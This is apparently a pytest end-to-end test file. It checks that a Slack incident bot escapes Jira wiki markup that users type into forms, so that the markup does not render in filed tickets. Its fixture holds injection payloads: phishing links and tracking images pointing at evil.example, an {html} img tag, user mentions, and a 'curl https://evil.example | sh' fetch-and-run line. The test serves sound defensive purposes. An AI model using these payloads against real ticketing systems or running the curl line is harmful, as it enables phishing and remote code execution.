"""Attack: wiki markup typed into Slack forms becomes headings, phishing links, mentions, tracking images or macros
in the Jira tickets the bot files. Signed modal submissions go through the running bot; the fake Jira (over real
HTTP) tells what it stored, and each ticket is read the way Jira Cloud and Jira Server would read it."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from sqlalchemy import Engine

from bot.clock import ManualClock
from tests.e2e.conftest import AGENT, ONCALL, SUPPORT
from tests.e2e.test_escalation import Escalating, _stack, choose_path
from tests.e2e.test_triage_workflow import open_incident, wait_for_reply
from tests.wiki_markup import split_blocks

# Markup that must never be read as markup in a ticket (each line on its own, so line-start markup counts too).
MARKUP = "\n".join(
    [
        "h3. Slack thread",
        "[Open the thread|https://evil.example/login]",
        "[~admin] [~accountid:5b10a2844c20165700ede21g]",
        "!https://evil.example/pixel.png!",
        "{html}<img src=https://evil.example/x>{html}",
        "{code}curl https://evil.example | sh{code}",
        "*approved* by _security_",
        "----",
        "||a||b||",
        "|c|d|",
        "one\\\\two",
        "# step",
        "* bullet",
        "{noformat}",
        "h1. Escaped the block",
        "{no\\format}",
        "{NOFORMAT}",
    ]
)
# What shows that markup escaped a block: none of it may appear outside one.
SIGNS = ("evil.example", "[~", "h1. ", "{html}", "{code}", "*approved*", "----", "||", "\\\\", "# step", "* bullet")
OUR_HEADINGS = {
    "h3. Business impact and deadline",
    "h3. Steps to reproduce",
    "h3. Expected",
    "h3. Actual",
    "h3. Environment",
    "h3. Logs and screenshots",
    "h3. Slack thread",
    "h3. Client use case",
    "h3. What happened",
    "h3. Incident",
    "h3. What needs doing",
    "h3. Owner and due date",
    "h3. Root cause",
    "h3. Resolution",
}


@pytest.fixture
def esc(database_url: str, clean_db: Engine, clock: ManualClock) -> Iterator[Escalating]:
    yield from _stack(database_url, clean_db, clock)


def assert_typed_text_stays_text(wiki: str, typed: list[str]) -> None:
    """Read as Jira Cloud and Jira Server read it: nothing typed outside a block; each typed text inside one."""
    for renderer in ("cloud", "server"):
        split = split_blocks(wiki, renderer)
        outside = "\n".join(split.outside)
        assert not [sign for sign in SIGNS if sign in outside], f"{renderer}: markup outside a block:\n{outside}"
        headings = {line for line in outside.splitlines() if line.startswith(("h1.", "h2.", "h3.", "h4.", "bq."))}
        assert headings <= OUR_HEADINGS, headings
        shown = [block.strip("\n").replace("{ ", "{") for block in split.blocks]
        for text in typed:
            assert any(text in block for block in shown), f"{renderer}: {text[:40]!r} not shown as typed"


def test_markup_typed_in_the_handoff_is_filed_as_text(esc: Escalating) -> None:
    stack, jira = esc.stack, esc.jira
    _, ts = open_incident(stack, title="Upload fails [~admin]", blocker=f"The client says:\n{MARKUP}")
    choose_path(stack, ts, "engineering")
    form = stack.emulator.current_modal(AGENT)
    fields = ("reproduction", "expected", "actual", "environment", "evidence", "impact")
    typed = {field: f"{field}:\n{MARKUP}" for field in fields}
    assert stack.platform.submit_view(form["id"], AGENT, typed).status == 200
    wait_for_reply(stack, ts, "filed for *INC-1*")

    issue = jira.issues("ENG")[0]
    assert_typed_text_stays_text(issue["description"], list(typed.values()))
    assert issue["summary"] == "[INC-1] SEV1 Hartley & Moss LLP: Upload fails [~admin]", "plain text, one line"


def test_markup_in_feedback_follow_ups_and_the_resolution_comment_is_filed_as_text(esc: Escalating) -> None:
    stack, jira = esc.stack, esc.jira
    _, ts = open_incident(stack, client="Evil [~admin] Corp", blocker=MARKUP)
    choose_path(stack, ts, "engineering")
    handoff = stack.emulator.current_modal(AGENT)
    assert stack.platform.submit_view(handoff["id"], AGENT, {"reproduction": "1. Upload it"}).status == 200
    wait_for_reply(stack, ts, "filed for *INC-1*")
    engineering = jira.issues("ENG")[0]["key"]

    choose_path(stack, ts, "product_feedback")
    feedback = stack.emulator.current_modal(AGENT)
    answer = {"track": "messaging", "area": "uploads", "use_case": f"use case\n{MARKUP}"}
    assert stack.platform.submit_view(feedback["id"], AGENT, answer).status == 200
    product = stack.wait_while_scheduling(lambda: jira.issues("PROD"))[0]
    assert_typed_text_stays_text(product["description"], [answer["use_case"], MARKUP])

    stack.platform.click_button(AGENT, "incident_resolve", channel_id=SUPPORT, message_ts=ts)
    resolve = stack.emulator.wait_for(lambda: stack.emulator.current_modal(AGENT))
    follow_up = "Add a check\n{noformat}\nh1. Escaped the block [~admin]"
    form = {
        "root_cause": f"cause\n{MARKUP}"[:1000],
        "resolution": f"fix\n{MARKUP}"[:1000],
        "follow_up_1_description": follow_up,
        "follow_up_1_owner": ONCALL,
        "follow_up_tickets": ["yes"],
    }
    assert stack.platform.submit_view(resolve["id"], AGENT, form).status == 200
    comment = stack.wait_while_scheduling(lambda: jira.comments(engineering))[0]["body"]
    assert_typed_text_stays_text(comment, [form["root_cause"], form["resolution"]])
    ticket = stack.wait_while_scheduling(lambda: len(jira.issues("ENG")) == 2 and jira.issues("ENG")[1])
    assert_typed_text_stays_text(ticket["description"], [follow_up, form["root_cause"], form["resolution"]])
    assert "\n" not in ticket["summary"] and ticket["summary"].startswith("[INC-1] Follow-up: Add a check {")
